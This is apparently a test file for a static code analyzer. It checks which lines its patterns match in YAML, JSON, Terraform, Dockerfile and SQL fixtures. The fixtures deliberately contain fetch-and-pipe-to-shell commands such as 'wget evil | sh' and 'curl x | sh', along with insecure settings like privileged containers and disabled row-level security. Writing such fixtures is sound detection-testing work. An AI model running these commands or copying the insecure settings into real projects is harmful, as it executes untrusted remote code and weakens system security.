import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, describe, expect, test } from 'vitest'
import { stringify } from 'yaml'
import { makeTemporaryFolder } from '../../testing/temporary-folder.ts'
import { SourceFile } from '../../tree/source-file.ts'
import { createCodeAnalyzer } from '../analyzer.ts'

const folder = makeTemporaryFolder()
afterAll(() => {
  folder.remove()
})

/** The lines on which a pattern matches. */
async function linesOf(language: string, path: string, text: string, pattern: string): Promise<number[]> {
  const file = join(folder.path, 'rule.yaml')
  const rule = { id: 'p', languages: [language], severity: 'ERROR', message: 'm', pattern }
  writeFileSync(file, stringify({ rules: [rule] }))
  const { analyzer, problems } = await createCodeAnalyzer({ rules: [file], builtIn: false })
  expect(problems).toEqual([])
  const outcome = analyzer.analyze(new SourceFile(path, Buffer.from(text)))
  expect(outcome.kind).toBe('checked')
  return outcome.found.map(({ line }) => line)
}

const YAML = `a:
  image: x
  privileged: true
  ports: [80, "81"]
b:
  privileged: "true"
  image: y
c: {image: z, privileged: true, name: q}
list:
  - name: one
    value: 1
  - name: two
    value: "1"
steps:
  - uses: actions/checkout@v3
  - run: |
      echo hi
      curl x | sh
`

describe('patterns over YAML', () => {
  test.each([
    ['privileged: true', [3, 8]],
    ['"privileged": true', [3, 8]],
    ['image: $X\nprivileged: true', []],
    ['image: $X\n...\nprivileged: true', [2, 8]],
    ['...\nprivileged: true\n...', [2, 8]],
    ['$K:\n  image: $X', []],
    ['$K:\n  ...\n  image: $X\n  ...', [1, 5, 8]],
    ['- name: $N', []],
    ['- name: $N\n  value: 1', [10]],
    ['list:\n  - name: two\n    value: "1"', []],
    ['list:\n  - ...\n  - name: two\n    value: "1"\n  - ...', [9]],
    ['value: "1"', [13]],
    ['ports: [80, $X]', [4]],
    ['ports: [...]', [4]],
    ['ports:\n  - 80', []],
    ['uses: "$X"', [15]],
    ['uses: "=~/checkout/"', [15]],
    ['run: $X', [16]],
    ['run: "=~/curl .* sh/"', [16]],
    ['"true"', [6]],
    ['steps: $X', [14]],
    ['{image: $X, privileged: true, ...}', [2, 8]],
    ['privileged: $T', [3, 6, 8]],
  ])('%j', async (pattern, lines) => {
    expect(await linesOf('yaml', 'a.yaml', YAML, pattern)).toEqual(lines)
  })

  test('what a template adds is passed over, at the same places', async () => {
    const chart =
      '{{- if .Values.on }}\na:\n  image: {{ .Values.image | quote }}\n  privileged: true\n  {{- with .Values.x }}\n  b: {{ . }}\n  {{- end }}\n{{- end }}\n'
    expect(await linesOf('yaml', 'a.yaml', chart, 'privileged: true')).toEqual([4])
    expect(await linesOf('yaml', 'a.yaml', chart, 'image: $X')).toEqual([3])
  })
})

const JSON_TEXT = `{
  "a": {"x": 1, "y": true, "s": "foo"},
  "b": {"y": true, "x": 1},
  "l": [1, 2, {"x": 1}]
}
`

describe('patterns over JSON', () => {
  test.each([
    ['"x": 1', [2, 3, 4]],
    ['{"x": 1}', [4]],
    ['{..., "x": 1, ...}', [2, 3, 4]],
    ['{"x": 1, "y": true}', [3]],
    ['{"x": $X, ...}', [2, 3, 4]],
    ['{"y": true, ..., "x": 1, ...}', [2, 3]],
    ['"l": [..., {"x": 1}]', [4]],
    ['"l": [1, 2]', []],
    ['$K: {..., "s": $V, ...}', [2]],
    ['"$K": {..., "s": "$V", ...}', [2]],
    ['"s": "=~/^fo+$/"', [2]],
    ['"s": "=~/^\\w+$/"', [2]],
  ])('%j', async (pattern, lines) => {
    expect(await linesOf('json', 'a.json', JSON_TEXT, pattern)).toEqual(lines)
  })
})

const HCL = `resource "aws_s3_bucket" "b" {
  acl    = "public-read"
  bucket = "x"
  tags = { Name = "x", Y = 2 }
}
resource "aws_db_instance" "d" {
  bucket = "x"
  acl    = "public-read"
  public = true
  ingress {
    from_port = 22
    cidr_blocks = ["10.0.0.0/8", "0.0.0.0/0"]
  }
  n = var.foo
}
resource "aws_x" "e" {
}
`

describe('patterns over HCL', () => {
  test.each([
    ['resource "aws_s3_bucket" $X {\n  ...\n}', [1]],
    ['resource "aws_s3_bucket" "..." {\n  ...\n  acl = "public-read"\n  ...\n}', [1]],
    ['resource $T $X {\n  ...\n  acl = "public-read"\n  ...\n  bucket = "x"\n  ...\n}', [1, 6]],
    ['resource "aws_s3_bucket" $X {\n  acl = "public-read"\n}', [1]],
    ['acl = "public-read"', [2, 8]],
    ['ingress {\n  ...\n}', [10]],
    ['$B {\n  ...\n  cidr_blocks = [..., "0.0.0.0/0", ...]\n  ...\n}', [10]],
    ['resource $T $X {\n  ...\n  ingress {\n    ...\n    from_port = 22\n    ...\n  }\n  ...\n}', [6]],
    ['"0.0.0.0/0"', [12]],
    ['$K = var.$V', [14]],
    ['tags = {Y = 2, ...}', [4]],
    ['tags = {...}', [4]],
    ['resource "aws_x" $X {}', [16]],
    ['resource "=~/aws_.*/" $X {...}', [1, 6, 16]],
    ['cidr_blocks = [..., "=~/^0\\.0\\.0\\.0/", ...]', [12]],
  ])('%j', async (pattern, lines) => {
    expect(await linesOf('terraform', 'a.tf', HCL, pattern)).toEqual(lines)
  })
})

const DOCKERFILE = `# syntax=docker/dockerfile:1
FROM --platform=linux/amd64 node:18 AS build
RUN apt-get update && \\
    # a comment between
    apt-get install -y curl
run curl http://x | sh
ENV TOKEN=abc FOO="b ar"
COPY --from=build --chown=a:b src /app
USER root
CMD ["node", "x.js"]
RUN <<EOF
wget evil | sh
EOF
HEALTHCHECK CMD curl x
`

describe('patterns over Dockerfiles', () => {
  test.each([
    ['FROM $X', [2]],
    ['FROM node:18', [2]],
    ['FROM $X:$T', [2]],
    ['FROM node', []],
    ['FROM $X AS $Y', [2]],
    ['USER root', [9]],
    ['RUN curl ...', [6]],
    ['RUN curl $U | sh', [6]],
    ['RUN apt-get install ...', [3]],
    ['RUN ... curl ...', [3, 6]],
    ['RUN wget evil | sh', [11]],
    ['ENV $K=$V', [7]],
    ['ENV FOO="b ar"', [7]],
    ['COPY $A $B', [8]],
    ['CMD ["node", $X]', [10]],
    ['CMD [...]', [10]],
    ['FROM $X\n...\nUSER root', [2]],
    ['HEALTHCHECK ...', [14]],
  ])('%j', async (pattern, lines) => {
    expect([...new Set(await linesOf('dockerfile', 'Dockerfile', DOCKERFILE, pattern))]).toEqual(lines)
  })
})

const SQL = `-- create policy x on y using (true);
CREATE TABLE public.users (id int primary key, email text);
create policy "all" on users for select USING (true);
create policy p on users for all to authenticated using (auth.uid() = id) with check (true);
create or replace function f() returns void language sql security definer as $body$ select 1; $body$;
/* grant all */ ALTER TABLE "Users" DISABLE ROW LEVEL SECURITY
`

describe('patterns over SQL', () => {
  test.each([
    ['create policy $N on $T ... using (true)', [3]],
    ['CREATE POLICY $N ON users ... WITH CHECK (true)', [4]],
    ['alter table users disable row level security', [6]],
    ['create ... function $F(...) ... security definer ...', [5]],
    ['select ...', []],
    ['grant all', []],
  ])('%j', async (pattern, lines) => {
    expect(await linesOf('sql', 'a.sql', SQL, pattern)).toEqual(lines)
  })
})
